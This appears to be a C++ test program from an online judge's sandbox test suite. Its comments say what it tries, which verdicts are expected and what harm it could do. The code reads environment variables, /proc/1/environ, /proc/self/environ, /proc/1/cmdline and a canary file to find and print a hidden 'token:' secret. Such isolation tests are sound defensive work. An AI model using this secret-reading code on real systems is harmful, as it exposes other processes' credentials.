//: tries: reads its own memory far beyond its objects, and files of other processes
//: task: token-cpp
//: verdict: wrong_answer runtime_error time_limit
//: harms: may read the memory of processes of the same user

#include <cstdio>
#include <cstring>
#include <initializer_list>

extern char **environ;

int main() {
    for (char **name = environ; *name; name++)
        if (char *found = std::strstr(*name, "token:")) return std::puts(found), 0;
    static char text[1 << 16];
    for (const char *path : {"/proc/1/environ", "/proc/self/environ", CANARY_FILE, "/proc/1/cmdline"})
        if (FILE *file = std::fopen(path, "rb")) {
            size_t size = std::fread(text, 1, sizeof text - 1, file);
            for (size_t i = 0; i + 6 < size; i++)
                if (!std::memcmp(text + i, "token:", 6)) return std::puts(text + i), 0;
        }
}
